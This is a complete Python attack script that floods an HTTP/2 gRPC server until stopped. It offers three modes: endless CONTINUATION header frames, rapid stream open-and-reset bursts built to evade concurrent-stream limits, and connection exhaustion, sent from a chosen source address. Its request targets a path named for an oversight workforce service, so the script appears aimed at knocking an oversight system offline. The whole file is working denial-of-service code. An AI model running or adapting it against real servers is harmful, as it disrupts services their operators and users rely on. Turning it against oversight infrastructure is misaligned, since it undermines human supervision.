"""Attacks a server of HTTP/2 over plain TCP until SIGTERM, from an address of its own, at the lowest priority.
Usage: attacker.py headers|resets|connections HOST PORT SOURCE"""

import os
import signal
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


REQUEST = b"".join(literal(name, value) for name, value in (
    (b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"x"), (b"te", b"trailers"),
    (b":path", b"/oversight.workforce.v1.WorkforceService/ListAuthorities"), (b"content-type", b"application/grpc")))


def connect(host, port, source):
    made = socket.create_connection((host, port), timeout=2, source_address=(source, 0))
    made.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return made


def flood_headers(made):
    """A call whose headers never end."""
    made.sendall(frame(HEADERS, 0, 1, REQUEST))
    filler = b"".join(literal(b"x-%d" % number, b"a" * 100) for number in range(100))
    while True:
        made.sendall(frame(CONTINUATION, 0, 1, filler))


def reset_rapidly(made):
    """Calls that are taken back at once, so that no limit of calls in flight is ever reached."""
    stream = 1
    while stream < 2**30:
        bundle = b""
        for _ in range(100):
            bundle += frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
        made.sendall(bundle)


def main(attack, host, port, source):
    stopping = []
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    os.nice(19)
    held = []
    made = refused = 0
    while not stopping:
        try:
            connection = connect(host, int(port), source)
            made += 1
            if attack == "connections":
                held.append(connection)
            elif attack == "headers":
                flood_headers(connection)
            else:
                reset_rapidly(connection)
        except OSError:
            refused += 1
            time.sleep(0.01)
        if (made + refused) % 50 == 0:
            print(f"{made} connections, {refused} ended by the other side", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
